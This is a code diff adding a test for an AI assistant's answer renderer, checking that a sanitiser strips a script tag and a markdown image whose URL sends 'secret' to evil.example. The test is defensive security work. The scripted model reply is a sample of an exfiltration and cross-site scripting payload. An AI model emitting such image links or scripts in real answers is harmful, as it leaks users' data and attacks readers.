@@ -176,6 +176,16 @@ describe.each(dialectTargets())('AI assistant on $name', (target) => {
     expect(fake.chatRequests().at(-1)!.body.messages.some((m: { role: string }) => m.role === 'tool')).toBe(true);
   });
 
+  it('renders answers with the posts\' sanitiser, without images, citations linked outside code only', async () => {
+    fake.script(() => ({ content: 'Flash it [1]. ![x](https://evil.example/?q=secret) <script>alert(1)</script> Run `reset [1]`.' }));
+    const final = last(events((await ask('zebra router firmware')).body).chunks);
+    expect(final.grounded).toBe(true);
+    expect(final.html).not.toMatch(/<img|<script|evil\.example/);
+    expect(final.html).toContain(`<a href="${final.citations![0]!.url}"`);
+    expect(final.html).toContain('<code>reset [1]</code>');
+    fake.script(undefined);
+  });
+
   it('says honestly when the site has no answer', async () => {
     fake.script(() => ({ content: 'NO_ANSWER' }));
     const res = await ask('How do I bake sourdough bread on the moon?');
